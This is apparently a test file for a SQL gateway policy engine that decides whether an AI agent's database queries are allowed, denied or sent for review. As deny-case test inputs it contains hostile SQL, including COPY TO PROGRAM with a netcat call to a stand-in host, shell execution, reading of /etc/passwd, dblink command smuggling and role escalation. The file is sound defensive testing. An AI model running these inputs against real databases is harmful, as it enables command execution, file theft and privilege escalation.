import assert from 'node:assert/strict';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseConfig } from '../../../platform/config';
import type { AgentIdentity } from '../../../gateway/identity/contract';
import type { PolicyDecision, PolicyRequest } from '../../../gateway/policy/contract';
import { blockTransition, createPolicyEngine, EngineRule, type GatewayPolicyEngine } from '../../../gateway/policy/policy-engine';

const AGENT: AgentIdentity = { login: 'claude-ci', subject: 'agent:claude-ci', claims: { repo: 'org/app', owner: 'alice' } };
const OTHER: AgentIdentity = { login: 'codex-1', subject: 'agent:codex-1', claims: {} };

async function engineWith(yaml: string): Promise<GatewayPolicyEngine> {
  const dataDir = join(mkdtempSync(join(tmpdir(), 'gapwatch-policy-')), 'data');
  const config = parseConfig(`dataDir: ${dataDir}\n${yaml}`);
  return createPolicyEngine({ config: config.gateway.policy, dataDir: config.dataDir });
}

function request(text: string, extra: Partial<PolicyRequest> = {}): PolicyRequest {
  return { sessionId: 's1', resource: 'orders-db', identity: AGENT, via: 'query', text, ...extra };
}

function summary(decision: PolicyDecision): [string, string | null] {
  return [decision.action, decision.rule];
}

describe('gateway/policy/policy-engine', () => {
  describe('built-in defaults', () => {
    let engine: GatewayPolicyEngine;
    before(async () => {
      engine = await engineWith('');
    });
    after(() => engine?.close());

    const CASES: Array<[string, string, string | null]> = [
      ['SELECT * FROM orders', 'allow', null],
      ['', 'allow', null],
      ["COPY orders TO PROGRAM 'nc evil 9'", 'deny', 'gapwatch:deny-copy-program'],
      ["SELECT 1; copy orders from program 'sh -c id'", 'deny', 'gapwatch:deny-copy-program'],
      ["COPY orders FROM '/etc/passwd'", 'deny', 'gapwatch:deny-copy-server-file'],
      ["COPY (SELECT 1) TO '/tmp/x'", 'deny', 'gapwatch:deny-copy-server-file'],
      ['COPY orders TO STDOUT', 'allow', null],
      ['COPY orders FROM STDIN', 'allow', null],
      ['GRANT ALL ON orders TO PUBLIC', 'deny', 'gapwatch:deny-dcl'],
      ['SET ROLE postgres', 'deny', 'gapwatch:deny-dcl'],
      ["CREATE ROLE x SUPERUSER LOGIN PASSWORD 'p'", 'deny', 'gapwatch:deny-dcl'],
      ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity', 'deny', 'gapwatch:deny-admin-functions'],
      ["SELECT pg_catalog.pg_read_file('/etc/passwd')", 'deny', 'gapwatch:deny-admin-functions'],
      ["select * from dblink('dbname=x', 'drop table t') as t(a int)", 'deny', 'gapwatch:deny-admin-functions'],
      ['CREATE TABLE t (id int)', 'review', 'gapwatch:review-ddl'],
      ['SELECT 1; DROP TABLE orders; SELECT 2', 'review', 'gapwatch:review-ddl'],
      ["DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$", 'review', 'gapwatch:review-do-blocks'],
      // A deny anywhere in the string outweighs a review elsewhere in it.
      ["DROP TABLE a; COPY b TO PROGRAM 'x'", 'deny', 'gapwatch:deny-copy-program'],
      ['SELEC * FROM orders', 'deny', EngineRule.Unparseable],
      ['EXECUTE never_prepared', 'deny', EngineRule.UnknownPrepared],
      // Settings that would make the server lex the text differently from the gateway.
      ['SET standard_conforming_strings = off', 'deny', EngineRule.ParserHazard],
      ["SELECT 1; SET standard_conforming_strings TO 'false'", 'deny', EngineRule.ParserHazard],
      ['SET standard_conforming_strings = on', 'allow', null],
      ["SET NAMES 'SJIS'", 'deny', EngineRule.ParserHazard],
      ["SET client_encoding = 'Shift_JIS'", 'deny', EngineRule.ParserHazard],
      ["SET client_encoding = 'UTF8'", 'allow', null],
      ["SELECT set_config('client_encoding', 'big5', false)", 'deny', EngineRule.ParserHazard],
      ["SELECT set_config(chr(115) || 'tandard_conforming_strings', 'off', false)", 'deny', EngineRule.ParserHazard],
    ];
    for (const [sql, action, rule] of CASES) {
      it(`${action} ${JSON.stringify(sql)}`, async () => {
        assert.deepEqual(summary(await engine.evaluate(request(sql))), [action, rule]);
      });
    }

    it('denies input too deep or too large to parse, and keeps working afterwards', async () => {
      for (const sql of [`SELECT ${'('.repeat(20_000)}1${')'.repeat(20_000)}`, `SELECT ${Array(20_000).fill('a').join(' + ')}`]) {
        assert.deepEqual(summary(await engine.evaluate(request(sql))), ['deny', EngineRule.Unparseable]);
      }
      assert.deepEqual(summary(await engine.evaluate(request('SELECT 1'))), ['allow', null]);
    });

    it('explains an unparseable statement to the client', async () => {
      const decision = await engine.evaluate(request('DELETE FROM'));
      assert.equal(decision.action, 'deny');
      assert.match(decision.action === 'deny' ? decision.reason : '', /could not be parsed \(syntax error at end of input at character 12\); the gateway refuses what it cannot classify/);
    });
  });

  describe('configured rules', () => {
    let engine: GatewayPolicyEngine;
    before(async () => {
      engine = await engineWith(`
gateway:
  policy:
    default: deny
    rules:
      - name: migrations-bot-ddl
        logins: [migrator]
        classes: [ddl]
        action: allow
      - name: no-writes-to-payments
        relations: [public.payments, '"Billing".*']
        classes: [write]
        action: deny
        reason: payments are written by the billing service only
      - name: reports-readers
        resources: [orders-*]
        claims: { repo: "org/*" }
        classes: [read]
        relations: [public.*, reports.*]
        action: allow
      - name: no-billing-writes
        classes: [write]
        relations: [ledger.*]
        action: deny
      - name: agents-may-write-orders
        subjects: ["agent:*"]
        classes: [write, read, transaction]
        relations: [orders, order_items]
        action: allow
      - name: transactions
        classes: [transaction]
        action: allow
      - name: search-path
        classes: [session]
        action: allow
      - name: review-deletes-by-codex
        logins: [codex-*]
        classes: [write]
        action: review
        reason: codex writes are reviewed
`);
    });
    after(() => engine?.close());

    it('denies a write hidden in a CTE, with the rule’s reason', async () => {
      const decision = await engine.evaluate(request('WITH gone AS (DELETE FROM payments RETURNING *) SELECT count(*) FROM gone'));
      assert.deepEqual(summary(decision), ['deny', 'no-writes-to-payments']);
      assert.equal(decision.action === 'deny' ? decision.reason : '', 'payments are written by the billing service only');
      assert.deepEqual(decision.statements[0]!.classes, ['read', 'write']);
    });

    it('matches relations whatever the case or quoting, and quoted names as PostgreSQL folds them', async () => {
      for (const sql of ['DELETE FROM PUBLIC.PAYMENTS', 'delete from "public"."payments"', 'UPDATE payments SET x = 1', 'DELETE FROM "Billing".invoices', 'delete from billing.invoices']) {
        assert.deepEqual(summary(await engine.evaluate(request(sql))), ['deny', 'no-writes-to-payments'], sql);
      }
    });

    it('allows only when every relation is covered by an allow rule', async () => {
      assert.deepEqual(summary(await engine.evaluate(request('SELECT * FROM reports.daily d JOIN customers c ON true'))), ['allow', 'reports-readers']);
      assert.deepEqual(summary(await engine.evaluate(request('SELECT * FROM reports.daily, secret.keys'))), ['deny', EngineRule.Default]);
      // No relation at all is not "every relation covered".
      assert.deepEqual(summary(await engine.evaluate(request('SELECT 1'))), ['deny', EngineRule.Default]);
    });

    it('matches identities by login, subject and claims, and resources by glob', async () => {
      assert.deepEqual(summary(await engine.evaluate(request('SELECT * FROM reports.daily', { resource: 'billing-db' }))), ['deny', EngineRule.Default]);
      const noClaim: AgentIdentity = { ...AGENT, claims: { repo: 'other/app' } };
      assert.deepEqual(summary(await engine.evaluate(request('SELECT * FROM reports.daily', { identity: noClaim }))), ['deny', EngineRule.Default]);
      const migrator: AgentIdentity = { login: 'migrator', subject: 'svc:migrator', claims: {} };
      assert.deepEqual(summary(await engine.evaluate(request('CREATE TABLE x (id int)', { identity: migrator }))), ['allow', 'migrations-bot-ddl']);
      assert.deepEqual(summary(await engine.evaluate(request('CREATE TABLE x (id int)'))), ['review', 'gapwatch:review-ddl']);
      assert.deepEqual(summary(await engine.evaluate(request('BEGIN; INSERT INTO orders SELECT * FROM order_items; COMMIT'))), ['allow', 'transactions']);
      assert.deepEqual(summary(await engine.evaluate(request('DELETE FROM t', { identity: OTHER }))), ['review', 'review-deletes-by-codex']);
    });

    it('an allow rule covers a statement only if it covers every class in it', async () => {
      const cte = 'WITH x AS (DELETE FROM reports.daily RETURNING *) SELECT * FROM x';
      assert.deepEqual(summary(await engine.evaluate(request(cte))), ['deny', EngineRule.Default]);
      assert.deepEqual(summary(await engine.evaluate(request('SET ROLE postgres'))), ['deny', 'gapwatch:deny-dcl']);
    });

    it('follows search_path to resolve unqualified names, within a string and across statements', async () => {
      const session = { sessionId: 'sp' };
      assert.deepEqual(summary(await engine.evaluate(request('DELETE FROM orders', session))), ['allow', 'agents-may-write-orders']);
      assert.deepEqual(summary(await engine.evaluate(request('SET search_path = ledger; DELETE FROM orders', session))), ['deny', 'no-billing-writes']);
      // That string was denied, so the session's search_path did not change.
      assert.deepEqual(summary(await engine.evaluate(request('DELETE FROM orders', session))), ['allow', 'agents-may-write-orders']);
      assert.deepEqual(summary(await engine.evaluate(request('SET search_path TO "Ledger", public', session))), ['allow', 'search-path']);
      assert.deepEqual(summary(await engine.evaluate(request('DELETE FROM orders', session))), ['deny', 'no-billing-writes']);
      assert.deepEqual(summary(await engine.evaluate(request('RESET search_path; DELETE FROM orders', session))), ['allow', 'search-path']);
      assert.deepEqual(summary(await engine.evaluate(request("SELECT set_config('search_path', 'ledger', false)", session))), ['deny', EngineRule.Default]);
      assert.deepEqual(summary(await engine.evaluate(request('SET LOCAL search_path = ledger; DELETE FROM orders', session))), ['deny', 'no-billing-writes']);
    });

    it('starts a session from the search_path the server reported (startSession), and RESET returns to it', async () => {
      const session = { sessionId: 'sp-start' };
      engine.startSession('sp-start', { searchPath: ['ledger'] });
      assert.deepEqual(summary(await engine.evaluate(request('DELETE FROM orders', session))), ['deny', 'no-billing-writes']);
      assert.deepEqual(summary(await engine.evaluate(request('SET search_path = public', session))), ['allow', 'search-path']);
      assert.deepEqual(summary(await engine.evaluate(request('DELETE FROM orders', session))), ['allow', 'agents-may-write-orders']);
      assert.deepEqual(summary(await engine.evaluate(request('RESET search_path; DELETE FROM orders', session))), ['deny', 'no-billing-writes']);
      engine.startSession('sp-unknown', { searchPath: 'unknown' });
      assert.deepEqual(summary(await engine.evaluate(request('DELETE FROM orders', { sessionId: 'sp-unknown' }))), ['deny', 'no-writes-to-payments'], 'unknown: every deny rule on a schema matches ("Billing".* comes first)');
      engine.endSession('sp-start');
      engine.endSession('sp-unknown');
    });

    it('checks the body of a prepared statement at PREPARE and at EXECUTE', async () => {
      assert.deepEqual(summary(await engine.evaluate(request('PREPARE p AS DELETE FROM payments'))), ['deny', 'no-writes-to-payments']);
      // The denied PREPARE never reached the server, so the gateway does not know p.
      assert.deepEqual(summary(await engine.evaluate(request('EXECUTE p'))), ['deny', EngineRule.UnknownPrepared]);
      assert.deepEqual(summary(await engine.evaluate(request('PREPARE q AS DELETE FROM orders', { sessionId: 's2' }))), ['allow', 'agents-may-write-orders']);
      assert.deepEqual(summary(await engine.evaluate(request('EXECUTE q', { sessionId: 's2' }))), ['allow', 'agents-may-write-orders']);
      // Prepared statements belong to their session.
      assert.deepEqual(summary(await engine.evaluate(request('EXECUTE q', { sessionId: 's3' }))), ['deny', EngineRule.UnknownPrepared]);
      engine.endSession('s2');
      assert.deepEqual(summary(await engine.evaluate(request('EXECUTE q', { sessionId: 's2' }))), ['deny', EngineRule.UnknownPrepared]);
    });

    it('remembers what a protocol-level Parse named, for a later SQL EXECUTE, until it is closed', async () => {
      const parse = await engine.evaluate(request('DELETE FROM orders WHERE id = $1', { via: 'parse', statementName: 'stmt_1', sessionId: 's4' }));
      assert.deepEqual(summary(parse), ['allow', 'agents-may-write-orders']);
      const run = await engine.evaluate(request('EXECUTE stmt_1(5)', { sessionId: 's4' }));
      assert.deepEqual(summary(run), ['allow', 'agents-may-write-orders']);
      assert.deepEqual(run.statements[0]!.classes, ['write']);
      engine.forgetStatement('s4', 'stmt_1');
      assert.deepEqual(summary(await engine.evaluate(request('EXECUTE stmt_1(5)', { sessionId: 's4' }))), ['deny', EngineRule.UnknownPrepared]);
    });

    it('counts evaluations that can touch the session policy state (stateVersion), which a data path that keeps decisions follows', async () => {
      const sessionId = 's-version';
      const version = (): number => engine.stateVersion(sessionId);
      const at = (text: string, extra: Partial<PolicyRequest> = {}): void => void engine.evaluateNow(request(text, { sessionId, ...extra }));
      const start = version();
      at('SELECT * FROM orders WHERE id = 1');
      at('DELETE FROM public.payments');
      at('SELECT * FROM orders WHERE id = $1', { via: 'parse', statementName: '' });
      assert.equal(version(), start, 'reads, refusals and an unnamed Parse of a read change nothing');
      at('SET search_path = public');
      assert.equal(version(), start + 1, 'a SET search_path, even to where it is: elsewhere the same text changes it');
      at('BEGIN');
      at('COMMIT');
      assert.equal(version(), start + 1, 'transaction control moves only the block, which a data path follows itself (blockTransition)');
      at('SELECT * FROM orders WHERE id = $1', { via: 'parse', statementName: 'named' });
      assert.equal(version(), start + 2, 'a named Parse');
      engine.forgetStatement(sessionId, 'named');
      assert.equal(version(), start + 3, 'a closed statement');
      engine.forgetStatement(sessionId, 'never-prepared');
      assert.equal(version(), start + 3, 'closing an unknown name changes nothing');
      assert.equal(engine.stateVersion('no-such-session'), 0);
    });

    it('takes the transaction block from a data path that follows it (a kept BEGIN or COMMIT is never asked about)', async () => {
      const run = (sessionId: string, text: string, extra: Partial<PolicyRequest> = {}): PolicyDecision => engine.evaluateNow(request(text, { sessionId, ...extra }));
      // The engine never saw the BEGIN the data path let through on a kept decision: the SET may be rolled back.
      run('blk-1', 'SET search_path = ledger');
      run('blk-1', 'SET search_path = public', { block: 'maybe' });
      assert.deepEqual(summary(run('blk-1', 'DELETE FROM orders')), ['deny', 'no-billing-writes'], 'ledger.orders may still be what orders names');
      // The engine saw a BEGIN, the data path a kept COMMIT after it: the SET is certain.
      run('blk-2', 'SET search_path = ledger');
      run('blk-2', 'BEGIN');
      run('blk-2', 'SET search_path = public', { block: 'no' });
      assert.deepEqual(summary(run('blk-2', 'DELETE FROM orders')), ['allow', 'agents-may-write-orders'], 'only public.orders is left');
      const transition = (text: string, via: PolicyRequest['via'] = 'query'): string => {
        const decision = run('blk-3', text, { via });
        return blockTransition(via, decision.statements);
      };
      assert.deepEqual(
        ['BEGIN', 'START TRANSACTION', 'COMMIT', 'END', 'ROLLBACK', 'COMMIT AND CHAIN', 'SAVEPOINT a', 'RELEASE a', 'ROLLBACK TO a', "PREPARE TRANSACTION 'x'", 'SELECT 1', 'COMMIT; SELECT 1'].map((text) => transition(text)),
        ['maybe', 'maybe', 'no', 'no', 'no', 'maybe', 'keep', 'keep', 'keep', 'no', 'keep', 'maybe'],
      );
      assert.equal(transition('COMMIT', 'parse'), 'maybe', 'a Parse runs later, or never');
    });

    it('follows a search_path change only where it surely takes effect: not one that a ROLLBACK, a later error in its Query or a Parse never run can undo', async () => {
      // Under ledger, orders is ledger.orders (no-billing-writes denies); under public it is allowed.
      const scenarios: Array<[string, Array<[string, Partial<PolicyRequest>?]>]> = [
        ['a block rolled back', [['BEGIN'], ['SET search_path = public'], ['ROLLBACK']]],
        ['an aborted block committed', [['BEGIN'], ['SET search_path = public'], ['COMMIT']]],
        ['a Query whose later statement may fail', [['SET search_path = public; SELECT 1']]],
        ['a Parse', [['SET search_path = public', { via: 'parse', statementName: '' }]]],
        ['a named Parse', [['SET search_path = public', { via: 'parse', statementName: 'later' }]]],
        ['SET LOCAL', [['SET LOCAL search_path = public']]],
      ];
      for (const [what, steps] of scenarios) {
        const sessionId = `sp-${what}`;
        const run = (text: string, extra: Partial<PolicyRequest> = {}): PolicyDecision => engine.evaluateNow(request(text, { sessionId, ...extra }));
        run('SET search_path = ledger');
        assert.deepEqual(summary(run('DELETE FROM orders')), ['deny', 'no-billing-writes'], `${what}: under ledger`);
        for (const [text, extra] of steps) run(text, extra);
        assert.deepEqual(summary(run('DELETE FROM orders')), ['deny', 'no-billing-writes'], `${what}: ledger.orders may still be what orders names`);
      }
      // A lone SET in a simple Query outside a block is followed.
      const sessionId = 'sp-lone';
      engine.evaluateNow(request('SET search_path = ledger', { sessionId }));
      engine.evaluateNow(request('BEGIN', { sessionId }));
      engine.evaluateNow(request('ROLLBACK', { sessionId }));
      engine.evaluateNow(request('SET search_path = public', { sessionId }));
      assert.deepEqual(summary(engine.evaluateNow(request('DELETE FROM orders', { sessionId }))), ['allow', 'agents-may-write-orders']);
    });

    it('a prepared statement that moves search_path moves it where it runs: at a SQL EXECUTE, and (not asked about) at any protocol Execute while it exists', async () => {
      const steps = (sessionId: string) => (text: string, extra: Partial<PolicyRequest> = {}): PolicyDecision => engine.evaluateNow(request(text, { sessionId, ...extra }));
      // Named: a certain SET public after the Parse does not make orders public.orders for good.
      let run = steps('pe-named');
      run('SET search_path = ledger', { via: 'parse', statementName: 'to_ledger' });
      run('SET search_path = public');
      assert.deepEqual(summary(run('EXECUTE to_ledger')), ['allow', 'search-path']);
      assert.deepEqual(summary(run('DELETE FROM orders')), ['deny', 'no-billing-writes'], 'after a SQL EXECUTE of it');
      run('SET search_path = public');
      assert.deepEqual(summary(run('DELETE FROM orders')), ['deny', 'no-billing-writes'], 'a protocol Execute of it may come at any time');
      // A protocol Close may be skipped by the server (an error before it in its batch): still reachable,
      // though no longer EXECUTEd by name.
      engine.forgetStatement('pe-named', 'to_ledger');
      run('SET search_path = public');
      assert.deepEqual(summary(run('DELETE FROM orders')), ['deny', 'no-billing-writes'], 'after a Close the server may have skipped');
      assert.deepEqual(summary(run('EXECUTE to_ledger')), ['deny', EngineRule.UnknownPrepared]);
      // A lone DEALLOCATE in a simple Query outside a block surely runs: a certain SET is followed again.
      run('DEALLOCATE to_ledger');
      run('SET search_path = public');
      assert.deepEqual(summary(run('DELETE FROM orders')), ['allow', 'agents-may-write-orders']);
      // Prepared again after a Close the server may have skipped: the name may run either statement.
      run('SET search_path = ledger', { via: 'parse', statementName: 'again' });
      engine.forgetStatement('pe-named', 'again');
      run('SELECT * FROM reports.daily', { via: 'parse', statementName: 'again' });
      run('DEALLOCATE again');
      run('SET search_path = public');
      assert.deepEqual(summary(run('DELETE FROM orders')), ['allow', 'agents-may-write-orders']);
      // The unnamed statement: an unnamed Parse the server skips leaves the one before, so its changes add up.
      run = steps('pe-unnamed');
      run('SET search_path = ledger', { via: 'parse', statementName: '' });
      run('SET search_path = public');
      assert.deepEqual(summary(run('DELETE FROM orders')), ['deny', 'no-billing-writes'], 'the unnamed SET may be executed again');
      run('SELECT * FROM reports.daily', { via: 'parse', statementName: '' });
      run('SET search_path = public');
      assert.deepEqual(summary(run('DELETE FROM orders')), ['deny', 'no-billing-writes'], 'a later unnamed Parse may have been skipped');
      // Prepared again under the same name (the server refuses that, 42P05, and keeps the first): both count.
      run = steps('pe-again');
      run('SET search_path = ledger', { via: 'parse', statementName: 's' });
      run('SET search_path = public', { via: 'parse', statementName: 's' });
      run('SET search_path = public');
      run('EXECUTE s');
      assert.deepEqual(summary(run('DELETE FROM orders')), ['deny', 'no-billing-writes'], 'EXECUTE s may run the first');
    });

    it('classifies a protocol FunctionCall as a function call', async () => {
      const decision = await engine.evaluate(request('oid 1234', { via: 'function_call' }));
      assert.deepEqual(summary(decision), ['deny', EngineRule.Default]);
      assert.deepEqual(decision.statements[0]!.classes, ['function_call']);
    });
  });

  describe('configuration', () => {
    it('refuses a mask rule without a mask section, a bad regex and duplicate rule names', () => {
      assert.throws(() => parseConfig('gateway:\n  policy:\n    rules:\n      - name: m\n        action: mask\n'), /gateway\.policy\.rules\.0\.mask.*a mask rule needs/s);
      assert.throws(
        () => parseConfig('gateway:\n  policy:\n    rules:\n      - name: m\n        action: mask\n        mask:\n          values: [{regex: "("}]\n'),
        /valid JavaScript regular expression/,
      );
      assert.throws(() => parseConfig('gateway:\n  policy:\n    rules:\n      - {name: a, action: allow}\n      - {name: a, action: deny}\n'), /rule names must be unique/);
      assert.throws(() => parseConfig('gateway:\n  policy:\n    rules:\n      - {name: a, action: allow, classes: [writes]}\n'), /gateway\.policy\.rules\.0\.classes\.0/);
      assert.throws(() => parseConfig('gateway:\n  policy:\n    defualt: deny\n'), /no such key.*default/);
    });
  });
});
